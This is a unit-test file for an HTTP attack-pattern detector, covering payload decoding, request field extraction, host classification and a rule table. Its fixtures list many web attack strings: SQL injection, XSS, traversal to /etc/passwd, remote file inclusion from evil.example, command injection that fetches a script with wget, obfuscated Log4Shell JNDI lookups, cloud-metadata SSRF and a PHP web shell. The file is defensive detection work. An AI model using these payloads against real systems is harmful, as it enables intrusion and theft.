// Unit tests for the request attack-pattern detectors (src/detection/patterns). Fixtures are our
// own strings, written for these tests; the corpus run is in patterns-corpus.test.ts.
import { describe, expect, it } from 'vitest';
import {
  LIMITS,
  PATTERN_RULES,
  decodeValue,
  inspectEvent,
  inspectRequest,
  requestFields,
  type AttackClass,
  type Finding,
  type RequestInput,
} from '../../src/detection/patterns/index.js';
import { decodeMemo } from '../../src/detection/patterns/fields.js';
import { Generations } from '../../src/detection/patterns/generations.js';
import { resultMemo } from '../../src/detection/patterns/inspect.js';
import { resolveLookups } from '../../src/detection/patterns/log4shell.js';
import { classifyHost, parseIpv4 } from '../../src/detection/patterns/url-host.js';

const q = (value: string, name = 'v'): RequestInput => ({
  method: 'GET',
  path: '/app/search',
  query: `${name}=${encodeURIComponent(value)}`,
});
const classes = (f: Finding[]): AttackClass[] => [...new Set(f.map((x) => x.class))];

describe('decoding', () => {
  it.each([
    ['%252e%252e%252fetc', true, '../etc'],
    ['%c0%ae%c0%ae/', false, '../'],
    ['%u002e%u002e%u2215', false, '../'],
    ['a+b%20c', true, 'a b c'],
    ['a+b', false, 'a+b'],
    ['&lt;script&#62;&#x3C;', false, '<script><'],
    ['\\u003cimg\\x3e', false, '<img>'],
    ['ＳＥＬＥＣＴ', false, 'select'],
    ['%2bADw-script%2bAD4-', false, '<script>'],
    ['100%', false, '100%'],
    ['%zz%4', false, '%zz%4'],
  ])('decodeValue(%j) = %j', (raw, plus, want) => {
    expect(decodeValue(raw, plus)).toBe(want);
  });

  it('caps the value and the number of rounds', () => {
    expect(decodeValue('a'.repeat(LIMITS.maxValueChars * 2), false)).toHaveLength(
      LIMITS.maxValueChars,
    );
    // five levels of encoding: only maxDecodeRounds are undone
    let s = '<';
    for (let i = 0; i < LIMITS.maxDecodeRounds + 1; i++) s = encodeURIComponent(s);
    expect(decodeValue(s, false)).not.toBe('<');
  });
});

describe('fields', () => {
  it('splits query, cookies, referer query, JSON and multipart bodies', () => {
    const { fields } = requestFields({
      path: '/p?a=1&b%5B%24ne%5D=2',
      headers: {
        Cookie: 'sid=x; theme=dark',
        Referer: 'https://e.example/?from=ads',
        'Content-Type': 'application/json',
      },
      body: '{"user":{"name":"bob","tags":["x"]}}',
    });
    const names = fields.map((f) => f.field);
    expect(names).toEqual(
      expect.arrayContaining([
        'url.path',
        'url.query:a',
        'url.query:b[$ne]',
        'url.query.name:b[$ne]',
        'http.request.headers.cookie:sid',
        'http.request.headers.referer:from',
        'http.request.body:name',
        'http.request.body:tags',
      ]),
    );
    const mp = requestFields({
      headers: { 'content-type': 'multipart/form-data; boundary=XyZ' },
      body: '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nhello\r\n--XyZ--\r\n',
    }).fields;
    expect(
      mp.filter((f) => !f.field.startsWith('http.request.headers.')).map((f) => [f.field, f.value]),
    ).toEqual([
      ['http.request.body.filename:f', 'a.txt'],
      ['http.request.body:f', 'hello'],
    ]);
  });

  it('counts fields beyond the cap instead of reading them', () => {
    const query = Array.from({ length: LIMITS.maxFields + 10 }, (_, i) => `k${i}=v`).join('&');
    const r = requestFields({ query });
    expect(r.fields.length).toBeLessThanOrEqual(LIMITS.maxFields);
  });
});

describe('attacks are found', () => {
  const cases: Array<[AttackClass, RequestInput]> = [
    ['sqli', q("1' OR '1'='1")],
    ['sqli', q('1 UNION/**/ALL SELECT username, password FROM users--')],
    ['sqli', q("x'; DROP TABLE accounts; --")],
    ['sqli', q('1 AND SLEEP(5)')],
    ['sqli', q("admin'--")],
    ['sqli', q('(SELECT COUNT(*) FROM pg_catalog.pg_tables)')],
    ['sqli', q("1;WAITFOR DELAY '0:0:5'")],
    ['sqli', q('id::int')],
    ['sqli', { path: '/u', query: 'user[$ne]=x' }],
    ['xss', q('<ScRiPt>fetch("//x.example")</sCrIpT>')],
    ['xss', q('"><img src=x onerror=alert(document.domain)>')],
    ['xss', q('<svg/onload=confirm`1`>')],
    ['xss', q('javascript:alert(1)')],
    ['xss', q('<a href="jav&#x09;ascript:alert(1)">x</a>')],
    ['xss', q("' autofocus onfocus='alert(1)")],
    ['path_traversal', q('../../../../etc/passwd')],
    ['path_traversal', q('..%c0%af..%c0%af..%c0%afwindows%c0%afwin.ini')],
    ['path_traversal', q('....//....//etc//shadow')],
    ['path_traversal', { path: '/static/..%2f..%2f..%2fetc/hosts' }],
    ['path_traversal', { path: '/.git/config' }],
    ['path_traversal', q('php://filter/convert.base64-encode/resource=index.php')],
    ['path_traversal', { path: '/storage/logs/laravel.log' }],
    ['path_traversal', { path: '/wp-content/debug.log' }],
    ['path_traversal', { path: '/logs/error_log.log' }],
    ['path_traversal', { path: '/backup/site.sql.gz' }],
    ['rfi', q('http://203.0.113.7/shell.txt?', 'page')],
    ['rfi', q('https://evil.example/x.php', 'include_path')],
    ['command_injection', q('127.0.0.1; cat /etc/passwd')],
    ['command_injection', q('x|wget http://203.0.113.9/a.sh')],
    ['command_injection', q('`whoami`')],
    ['command_injection', q('$(id)')],
    ['command_injection', q(";c'a't${IFS}/etc/passwd")],
    ['command_injection', q('a && /bin/sh -c "id"')],
    ['command_injection', q('& ping -n 20 127.0.0.1 &')],
    ['command_injection', q('() { :; }; /bin/bash -c "id"')],
    ['command_injection', q('| net user eve P@ss /add')],
    ['log4shell', { path: '/', headers: { 'X-Api-Version': '${jndi:ldap://x.example/a}' } }],
    [
      'log4shell',
      { path: '/', headers: { 'User-Agent': '${${lower:j}${upper:n}di:rmi://x.example/a}' } },
    ],
    ['log4shell', q('${${::-j}${env:NOPE:-n}d${lower:I}:dns://x.example}')],
    ['log4shell', { path: '/', headers: { 'Accept-Language': '$%7Bjndi:ldap://x.example/%7D' } }],
    ['ssrf', q('http://169.254.169.254/latest/meta-data/', 'url')],
    ['ssrf', q('http://2130706433/admin', 'target')],
    ['ssrf', q('http://0x7f.1/', 'next')],
    ['ssrf', q('gopher://127.0.0.1:6379/_INFO', 'feed')],
    ['ssrf', q('http://[::ffff:a9fe:a9fe]/', 'u')],
    [
      'scanner',
      { path: '/', headers: { 'User-Agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' } },
    ],
    [
      'scanner',
      {
        path: '/',
        headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' },
      },
    ],
    ['scanner', { path: '/', headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0' } }],
    [
      'scanner',
      {
        path: '/',
        headers: {
          'User-Agent':
            'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
        },
      },
    ],
    ['php_injection', q('<?php system($_GET["c"]); ?>')],
    ['php_injection', q('O:8:"stdClass":1:{s:1:"a";s:1:"b";}')],
    ['code_injection', { path: '/', query: '__proto__[admin]=1' }],
    ['code_injection', q('require("child_process").exec("id")')],
  ];
  it.each(['/misc/sample.log', '/downloads/changelog.log', '/talks/2015/build.log'])(
    'a published file with a .log name is not an exposure probe: %s',
    (p) => {
      expect(inspectRequest({ method: 'GET', path: p })).toEqual([]);
    },
  );
  it.each(cases)('%s: %j', (cls, req) => {
    const f = inspectRequest(req);
    expect(classes(f)).toContain(cls);
    for (const x of f) {
      expect(
        PATTERN_RULES.get(x.rule)?.class,
        `rule ${x.rule} is in the table with its class`,
      ).toBe(x.class);
      expect(x.score).toBeGreaterThan(0);
      expect(x.score).toBeLessThanOrEqual(1);
      expect(x.excerpt.length).toBeLessThanOrEqual(96);

      expect(x.excerpt).not.toMatch(/[\x00-\x1f]/);
    }
  });
});

describe('ordinary traffic is left alone', () => {
  const benign: RequestInput[] = [
    { method: 'GET', path: '/products/42', query: 'sort=price&order=asc&page=2' },
    q("O'Brien"),
    q('Rock & Roll Hall of Fame'),
    q('select the best option from the list below'),
    q('What is 1+1? Answer: 2'),
    q('john.doe+news@example.com'),
    q('https://www.example.com/welcome?ref=mail', 'redirect'),
    q('/account/settings?tab=2', 'next'),
    q('Meet at 10:30; bring coffee & snacks (optional)'),
    q('<b>bold</b> and <a href="https://example.com">a link</a>'),
    q('C# and C++ are languages; so is Go.'),
    q('dGhpcyBpcyBqdXN0IHNvbWUgdGV4dA=='),
    q('2024-05-01T10:00:00Z'),
    q('The time is 5 pm, set the table'),
    q('houses with between 3 and 5 rooms, or more'),
    {
      path: '/',
      headers: {
        'User-Agent':
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
      },
    },
    {
      path: '/',
      headers: {
        'User-Agent':
          'Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+',
      },
    },
    { path: '/', headers: { 'User-Agent': 'curl/8.5.0' } },
    { path: '/.well-known/security.txt' },
    {
      path: '/api/v1/users/123/orders',
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: '{"items":[{"sku":"A-1","qty":2}],"note":"leave at door"}',
    },
    {
      path: '/login',
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'user=alice&password=S3cr%21t%3B%27x',
    },
  ];
  it.each(benign)('no findings: %j', (req) => {
    expect(inspectRequest(req)).toEqual([]);
  });

  // Seen in a real Apache log (the Elastic example log): ordering/language parameters whose
  // value is `id`, a search engine's `hl=id` in the Referer, and a Referer of www.dual-boxing.com
  // (its host tokenizes to the SQL word `www.dual`) were reported as attacks.
  const realLog: RequestInput[] = [
    q('id', 'sort'),
    q('id', 'orderby'),
    q('id', 'lang'),
    {
      path: '/blog/geekery/xvfb-firefox.html',
      headers: { Referer: 'http://www.google.com/imgres?imgurl=x&hl=id&start=3&q=whoami' },
    },
    {
      path: '/projects/xdotool/',
      headers: { Referer: 'http://www.dual-boxing.com/wiki/index.php/New_multiboxer%27s_guide' },
    },
  ];
  it.each(realLog)('no findings (real-log false positive): %j', (req) => {
    expect(inspectRequest(req)).toEqual([]);
  });
});

describe('the same words still count where they are attacks', () => {
  it.each([
    ['id;', 'command_injection'],
    ['id -u', 'command_injection'],
    ['whoami', 'command_injection'],
    ["' whoami", 'command_injection'],
    ['x from master.dbo.sysobjects', 'sqli'],
    ['select * from information_schema.tables', 'sqli'],
    ['1 union select 1 from dual', 'sqli'],
  ] as const)('%j is reported as %s', (value, cls) => {
    expect(classes(inspectRequest(q(value, 'cmd')))).toContain(cls);
  });
  it('names a schema probe by its catalog name, also inside a dotted name', () => {
    for (const v of ['x from master.dbo.sysobjects', 'name from information_schema.tables'])
      expect(inspectRequest(q(v)).map((f) => f.rule)).toContain('sqli.schema-probe');
  });
});

describe('Log4j lookup evaluation', () => {
  it('resolves nested defaults and case lookups', () => {
    const r = resolveLookups('${${env:X:-j}${lower:N}${::-d}i:ldap://h/}');
    expect(r.jndi).toBe(true);
    expect(resolveLookups('${date:yyyy}').jndi).toBe(false);
    expect(resolveLookups('${date:yyyy}').lookups).toBe(1);
  });
  it('stops after the rewrite cap', () => {
    const deep =
      '${'.repeat(LIMITS.maxLookupRewrites * 4) + 'x' + '}'.repeat(LIMITS.maxLookupRewrites * 4);
    expect(() => resolveLookups(deep)).not.toThrow();
  });
});

describe('hosts', () => {
  it.each([
    ['127.0.0.1', 'internal'],
    ['2130706433', 'internal'],
    ['0177.0.0.1', 'internal'],
    ['0x7f000001', 'internal'],
    ['127.1', 'internal'],
    ['169.254.169.254', 'metadata'],
    ['0251.0376.0251.0376', 'metadata'],
    ['[::ffff:169.254.169.254]', 'metadata'],
    ['[::1]', 'internal'],
    ['metadata.google.internal', 'metadata'],
    ['10.1.2.3', 'internal'],
    ['172.20.0.1', 'internal'],
    ['172.32.0.1', 'public'],
    ['203.0.113.5', 'public'],
    ['example.com', 'name'],
    ['localhost', 'internal'],
  ])('%s is %s', (h, k) => {
    expect(classifyHost(h)).toBe(k);
  });
  it('parses inet_aton spellings', () => {
    expect(parseIpv4('1.2.3')).toBe(0x01020003);
    expect(parseIpv4('1.2.3.4.5')).toBeUndefined();
    expect(parseIpv4('256.1.1.1')).toBeUndefined();
  });
});

describe('inspectEvent', () => {
  it('reads the schema fields and the optional headers/body attributes', () => {
    const f = inspectEvent({
      id: '0190f5a8-7b7c-7cc3-8a2e-0f1e2d3c4b5a',
      time: '2026-11-27T09:00:00.000Z',
      'event.name': 'http_request',
      'http.request.method': 'POST',
      'url.path': '/search',
      'url.query': 'q=%27%20or%201%3D1--',
      'user_agent.original': 'sqlmap/1.7',
      'http.request.referrer': 'https://x.example/?r=../../../etc/passwd',
      attributes: {
        'http.request.headers': { 'X-Forwarded-For': '${jndi:ldap://h/a}', 'X-Bad': 42 },
        'http.request.body': 'cmd=;id',
      },
    });
    expect(new Set(f.map((x) => x.class))).toEqual(
      new Set(['sqli', 'scanner', 'path_traversal', 'log4shell', 'command_injection']),
    );
    expect(f.find((x) => x.class === 'sqli')?.field).toBe('url.query:q');
    expect(f.find((x) => x.class === 'log4shell')?.field).toBe(
      'http.request.headers.x-forwarded-for',
    );
  });
  it('tolerates events without HTTP fields', () => {
    expect(inspectEvent({ id: 'x', time: '2026-01-01T00:00:00Z', 'event.name': 'log' })).toEqual(
      [],
    );
  });
});

describe('rule table', () => {
  it('maps every rule to ATT&CK techniques and a CWE', () => {
    expect(PATTERN_RULES.size).toBeGreaterThan(40);
    for (const r of PATTERN_RULES.values()) {
      expect(r.attack.length, r.id).toBeGreaterThan(0);
      for (const t of r.attack) expect(t).toMatch(/^T\d{4}(?:\.\d{3})?$/);
      expect(r.cwe).toMatch(/^CWE-\d+$/);
      expect(r.id.startsWith(r.class + '.'), r.id).toBe(true);
    }
    expect(PATTERN_RULES.get('scanner.user-agent')?.attack).toContain('T1595.002');
  });
});

describe('memoized results', () => {
  it('gives the same findings on a repeat, with the field of each occurrence', () => {
    const ua = 'Mozilla/5.0 (X11) sqlmap/1.8 <script>alert(1)</script>';
    const a = inspectRequest({ path: '/', headers: { 'User-Agent': ua, 'X-One': "1' or '1'='1" } });
    const hits = resultMemo.hits;
    const misses = resultMemo.misses;
    const b = inspectRequest({ path: '/', headers: { 'User-Agent': ua, 'X-One': "1' or '1'='1" } });
    expect(b).toEqual(a);
    // the repeat was answered from the memo: two fields, two hits, no new detector run
    expect(resultMemo.hits - hits).toBe(2);
    expect(resultMemo.misses - misses).toBe(0);
    expect(classes(a)).toEqual(expect.arrayContaining(['scanner', 'xss', 'sqli']));
    // the same value in another header is reported under that header, not from the cache entry
    const c = inspectRequest({ path: '/', headers: { 'X-Two': "1' or '1'='1" } });
    expect(c.map((x) => x.field)).toEqual(['http.request.headers.x-two']);
  });
  it('serves a repeated plain value (nothing to decode) from the decode memo too', () => {
    // A fresh copy of the same text each time, as a parser slices it from each log line.
    const ua = () => ['Mozilla/5.0 (X11; Linux x86_64)', ' Firefox/133.0'].join('');
    const a = requestFields({ path: '/index.html', headers: { 'User-Agent': ua() } });
    const hits = decodeMemo[0].hits;
    const b = requestFields({ path: '/index.html', headers: { 'User-Agent': ua() } });
    expect(b).toEqual(a);
    expect(decodeMemo[0].hits - hits).toBe(2); // the path and the User-Agent
    // the very string the result memo was keyed with (its hash already computed)
    expect(b.fields[1]!.value).toBe('mozilla/5.0 (x11; linux x86_64) firefox/133.0');
  });
  it('keeps two generations: a value stored before the last turnover is still found', () => {
    const g = new Generations<number>(2);
    g.set('a', 1);
    g.set('b', 2);
    g.set('c', 3); // a new generation: a, b are now the previous one
    expect(g.current('a')).toBeUndefined();
    expect(g.previous('a')).toBe(1);
    expect(g.current('c')).toBe(3);
    g.set('d', 4);
    g.set('e', 5); // and again: a and b are gone, c and d are the previous generation
    expect(g.previous('a')).toBeUndefined();
    expect(g.previous('c')).toBe(3);
    // a list that grew counts toward the bound without a new key
    g.count(1);
    g.set('f', 6);
    expect(g.current('e')).toBeUndefined();
    expect(g.previous('e')).toBe(5);
  });
  it('still reads structural headers for lookups, in any encoding', () => {
    for (const v of [
      '${jndi:ldap://h/a}',
      '%24%7Bjndi:ldap://h/a%7D',
      '&dollar;{jndi:ldap://h/a}',
    ]) {
      expect(classes(inspectRequest({ path: '/', headers: { Accept: v } }))).toEqual(['log4shell']);
    }
    expect(inspectRequest({ path: '/', headers: { Accept: 'text/html,*/*;q=0.8' } })).toEqual([]);
  });
});
